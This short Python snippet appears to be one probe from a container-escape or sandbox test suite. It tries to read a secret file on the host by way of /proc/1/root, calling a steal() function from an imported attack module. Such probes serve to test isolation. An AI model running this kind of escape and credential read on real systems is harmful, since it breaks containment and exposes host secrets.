# tries: reach the host's files through /proc/1/root
from attack import *
steal("/proc/1/root" + V["secret_file"])
